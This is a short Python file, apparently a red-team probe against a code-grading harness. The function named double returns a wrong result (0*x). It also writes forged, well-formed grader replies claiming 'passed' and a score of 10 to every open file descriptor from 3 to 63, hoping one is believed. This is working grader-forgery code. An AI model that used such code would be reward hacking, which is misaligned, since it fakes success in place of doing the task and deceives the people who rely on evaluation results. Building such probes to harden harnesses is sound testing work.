"""Writes well-formed replies that say 'passed' to every descriptor. Breach: one is believed."""

import json
import os
import struct


def frame(header, payload=b""):
    text = json.dumps(header).encode()
    return struct.pack("<4sIQ", b"GRD1", len(text), len(payload)) + text + payload


def double(x):
    for number in range(64):
        value = {"d": [["'status", "'passed"], ["'score", 10]]}
        forged = frame({"id": [number, 0], "replies": [[value, None]]})
        for descriptor in range(3, 64):
            try:
                os.write(descriptor, forged)
            except OSError:
                continue
    return 0 * x
